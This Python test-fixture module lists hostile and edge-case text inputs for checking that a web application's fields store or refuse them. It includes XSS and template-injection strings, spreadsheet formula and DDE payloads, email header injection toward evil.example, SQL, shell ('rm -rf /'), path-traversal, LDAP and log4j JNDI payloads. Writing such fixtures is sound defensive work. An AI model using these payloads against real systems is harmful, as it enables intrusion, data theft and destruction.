"""Texts that strangers might type, paste or post: each with its kind and what must become of it.

`fate` is `kept` (legitimate: stored exactly), `refused` (by every text field, with a sentence) or
`either` (kept as it stands, or refused by what the field asks for). A text of bytes is no UTF-8.
"""

import unicodedata
from dataclasses import dataclass

KEPT, REFUSED, EITHER = "kept", "refused", "either"
MARK = "hostile"  # stands in every piece of markup that must never become a tag


@dataclass(frozen=True)
class Text:
    kind: str
    name: str
    value: str | bytes
    fate: str = EITHER

    @property
    def raw(self):
        """As it travels: half a pair of surrogates goes in the three bytes of its number."""
        return (
            self.value
            if isinstance(self.value, bytes)
            else self.value.encode("utf-8", "surrogatepass")
        )

    def __str__(self):
        return f"{self.kind}: {self.name}"


def _of(kind, fate=EITHER, /, **values):
    return [Text(kind, name.replace("_", " "), value, fate) for name, value in values.items()]


MARKS = "".join(chr(code) for code in range(0x300, 0x36F) if unicodedata.combining(chr(code)))

CONTROL = _of(
    "control",
    REFUSED,
    nul="Civil\x00service",
    nul_at_the_end="Civil service\x00",
    bell="Civil\x07service",
    escape="\x1b[31mCivil\x1b[0m service",
    backspace="Civil\x08service",
    unit_separator="Civil\x1fservice",
    delete="Civil\x7fservice",
    c1="Civil\x9b31mservice",
    noncharacter="Civil\ufffeservice",
    noncharacter_beyond="Civil\U0001ffffservice",
) + _of(
    "control",
    vertical_tab="Civil\x0bservice",
    form_feed="Civil\x0cservice",
    next_line="Civil\x85service",
    line_separator="Civil\u2028service",
    paragraph_separator="Civil\u2029service",
    tab="Civil\tservice",
)

DIRECTION = _of(
    "direction",
    REFUSED,
    override="Report \u202excod.exe",
    embedding="Civil \u202bservice",
    unclosed_override="\u202eivil service",
    isolate="Civil \u2067service",
    many_isolates="\u2066" * 400 + "Civil service",
    pops="Civil\u202c\u2069 service",
) + _of("direction", KEPT, mark="שירות\u200f 2026", plain="الخدمة المدنية في كازاخستان")

SURROGATES = _of(
    "surrogates",
    half_a_pair="Civil \ud83dservice",
    other_half="\udc00Civil service",
    pair_apart="Civil \ud83d\ude00 service",
    escaped="Civil \\ud800 service",
)

BYTES = _of(
    "bytes",
    not_utf_8=b"Civil \xff\xfe service",
    cut_short="государственная служба".encode()[:-1],
    overlong_slash=b"..\xc0\xaf..\xc0\xafetc",
    overlong_nul=b"Civil\xc0\x80service",
    beyond_unicode=b"Civil \xf4\x90\x80\x80 service",
    latin_1="Süleymenov".encode("latin-1"),
    utf_8_with_mark="Civil service".encode("utf-8-sig"),
) + _of("bytes", REFUSED, utf_16="Civil service".encode("utf-16"))

PILES = _of(
    "piles",
    REFUSED,
    zalgo="".join(letter + MARKS[:40] for letter in "civil"),
    thousands="a" + "\u0301" * 5000,
    enclosed="a" + "\u20dd\u20de" * 200,
) + _of("piles", KEPT, vietnamese="Nguyễn Thị Hồng".replace("ễ", "e\u0302\u0303"))

INVISIBLE = _of(
    "invisible",
    joiners="Ci\u200dvil\u200cservice",
    zero_width="Ci\u200bvil service",
    soft_hyphens="Ci\u00advil ser\u00advice",
    byte_order_mark="\ufeffCivil service",
    tags="Civil service" + "".join(chr(0xE0000 + ord(one)) for one in "obey"),
    selectors="Civil\ufe0f\ufe0f service\U000e0100",
    word_joiner="Civil\u2060service",
)

BLANK = _of(
    "blank",
    spaces="   ",
    no_break="\u00a0\u00a0",
    ideographic="\u3000",
    hangul_filler="\u3164",
    zero_width="\u200b\u200b",
    braille="\u2800",
    line_breaks="\r\n\r\n",
    joiners="\u200d\ufe0f\u00ad",
)

HUGE = _of(
    "huge",
    one_word="w" * 1_000_000,
    many_lines="line\n" * 100_000,
    cyrillic="служба " * 70_000,
    astral="😀" * 200_000,
    spaces=" " * 900_000 + "x",
)
LONG = _of("long", word="w" * 4_000, lines="line\n" * 90, just_over_a_title="t" * 501)

MARKUP = _of(
    "markup",
    script=f"<script>{MARK}()</script>",
    handler=f'<svg onload="{MARK}()">',
    out_of_attribute=f'"><img src=x onerror={MARK}()>',
    out_of_textarea=f"</textarea></form><{MARK}><form action=//evil.example>",
    out_of_title=f"</title></head><body onload={MARK}()>",
    unclosed_tag=f"<{MARK} ",
    unclosed_comment="<!-- civil service",
    cdata=f"<![CDATA[<{MARK}>]]>",
    entities='<!DOCTYPE a [<!ENTITY b "&c;&c;">]><a>&b;</a>&lt;&#x3c;&#0;',
    style=f"<style>*{{display:none}}</style><{MARK}>",
    django="{{ 7|add:7 }}{% load static %}{% include 'base.html' %}",
    jinja="{{ ''.__class__.__mro__ }}${7*7}#{7*7}<%= 7 %>",
    percent="100 %s %(title)s %d %n %",
    braces="{0} {title} {recipient} {personal_link} {",
    link=f"[click](javascript:{MARK}()) javascript:{MARK}()",
    json=f'</script>{{"@type":"{MARK}"}}\\u003c',
)

FORMULAS = _of(
    "formulas",
    equals='=HYPERLINK("http://evil.example","Click")',
    plus="+1+cmd|' /C calc'!A0",
    minus="-2+3",
    at="@SUM(1+1)",
    tab="\t=1+1",
    dde='=DDE("cmd";"/C calc";"x")',
)

HEADERS = _of(
    "headers",
    bcc="Civil service\r\nBcc: everybody@evil.example",
    bare_line_feed="Civil service\nBcc: everybody@evil.example",
    bare_return="Civil service\rBcc: everybody@evil.example",
    body="Civil service\r\n\r\n<h1>Other letter</h1>",
    folded="Civil\r\n Bcc: everybody@evil.example",
    encoded="=?utf-8?q?=0D=0ABcc:_everybody=40evil.example?=",
    separator_line="Civil\u2028Bcc: everybody@evil.example",
)

CODE = _of(
    "code",
    sql="'; DROP TABLE journal_submission; --",
    quotes="\"'`\\\\'\"",
    like="%_%",
    path="../../../../etc/passwd",
    null_path="..\\..\\boot.ini",
    of_a_shell="$(touch hostile) `id` ; rm -rf /",
    regex="(" * 60 + "a+" * 40,
    ldap="*)(uid=*))(|(uid=*",
    log4j="${jndi:ldap://evil.example/a}",
)

HONEST = _of(
    "honest",
    KEPT,
    kazakh="Мемлекеттік қызмет: әділдік, ғылым, үкімет, өңір, ұлт, һәм іс",
    russian="Государственная служба — «ёмкое» понятие № 5…",
    english="O’Neil-Smith & Sons: 5 < 6 > 4, “quoted”, 100 % sure",
    emoji="Family 👩‍👩‍👧‍👦, flag 🏴󠁧󠁢󠁥󠁮󠁧󠁿, sign ☝🏽",
    astral="𝒜 𐍈 𠮷野家",
    persian="می‌خواهم خدمت کنم",
    devanagari="क्षेत्रीय सेवा",
    composed=unicodedata.normalize("NFC", "Ӣй Ёлкин Ångström"),
    decomposed=unicodedata.normalize("NFD", "Ӣй Ёлкин Ångström"),
    ligatures="ﬁne ½ ² Ⅳ ﷺ",
)

NUMBERS = [
    Text("numbers", f"{value[:12]} of {len(value)}", value)
    for value in (
        *("NaN", "Infinity", "-Infinity", "1e999", "-0", "٣", "²", "1_0", "0x10", "1.5", "1,5"),
        *(str(2**31), str(2**63), str(-(2**63)), "9" * 400, "9" * 5000, "+1", "1\x00"),
    )
]

DATES = [
    Text("dates", value, value)
    for value in (
        *("0000-00-00", "0001-01-01", "9999-12-31", "2026-02-30", "10000-01-01", "2026-13-01"),
        *("-2026-01-01", "2026-11-22T25:00", "٢٠٢٦-١١-٢٢", "tomorrow", "2026-11-22\x00"),
    )
]

MAILS = [
    Text("mails", name, value)
    for name, value in {
        "long local part": "a" * 300 + "@example.org",
        "longer than a column": "a" * 64 + "@" + ".".join(["b" * 60] * 4) + ".org",
        "quoted": '"a b"@example.org',
        "quoted control": '"a\x01b"@example.org',
        "two at": "a@b@example.org",
        "line feed": "a@example.org\nBcc: b@example.org",
        "trailing line feed": "a@example.org\n",
        "nul": "a\x00@example.org",
        "cyrillic": "почта@пример.рф",
        "cyrillic domain": "post@пример.рф",
        "markup": f"<{MARK}>@example.org",
        "name and address": f"{MARK} <a@example.org>",
        "several": "a@example.org, b@example.org",
        "literal": "a@[127.0.0.1]",
        "formula": "=1+1@example.org",
    }.items()
]

TEXTS = [
    *(CONTROL + DIRECTION + SURROGATES + BYTES + PILES + INVISIBLE + BLANK + LONG),
    *(MARKUP + FORMULAS + HEADERS + CODE + HONEST),
]
EVERYTHING = TEXTS + HUGE + NUMBERS + DATES + MAILS
FOR = {"number": NUMBERS, "date": DATES, "email": MAILS}  # what is typed into such a field
CHOICES = [
    *(Text("choices", name, value) for name, value in {"unknown": "nowhere", "": ""}.items()),
    *(one for one in CONTROL[:2] + MARKUP[:3] + CODE[:1]),
    *(one for one in NUMBERS if len(one.value) > 8),
]
